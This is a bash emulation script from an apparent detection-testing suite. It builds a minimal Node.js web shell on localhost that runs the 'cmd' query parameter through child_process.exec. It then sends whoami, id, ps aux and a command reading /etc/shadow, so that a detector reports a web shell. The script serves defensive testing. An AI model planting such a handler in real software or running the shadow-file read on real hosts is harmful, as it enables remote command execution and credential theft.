#!/bin/bash
# vigil-emulation: attack
# technique: T1505.003 Server Software Component: Web Shell
# tactic: persistence, execution, initial-access
# what: a Node.js HTTP server on 127.0.0.1 whose `/run?cmd=` handler calls
#   child_process.exec() (so `/bin/sh -c CMD`) with the request's parameter; the scenario
#   sends `whoami`, `id`, `cat /etc/shadow | head -2` and `ps aux` over HTTP.
# report: a webshell: /bin/sh spawned by node while serving an HTTP request, running the
#   request's commands (one of them reads /etc/shadow).
# expect: webshell|web shell
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need node curl

emul_tmpdir
cat >"$EMUL_DIR/server.js" <<'JS'
const http = require('http');
const { exec } = require('child_process');
const fs = require('fs');
const srv = http.createServer((req, res) => {
  const u = new URL(req.url, 'http://x');
  const cmd = u.searchParams.get('cmd');
  if (!cmd) { res.end('ok\n'); return; }
  exec(cmd, (err, stdout, stderr) => { res.end(stdout + stderr); });
});
srv.listen(0, '127.0.0.1', () => fs.writeFileSync(process.argv[2], String(srv.address().port)));
JS
: >"$EMUL_DIR/port"
emul_bg node "$EMUL_DIR/server.js" "$EMUL_DIR/port"
port=$(emul_ready "$EMUL_DIR/port")
for c in whoami id "cat /etc/shadow | head -2" "ps aux"; do
    curl -s --get --data-urlencode "cmd=$c" "http://127.0.0.1:$port/run" | head -5
    sleep 0.3
done
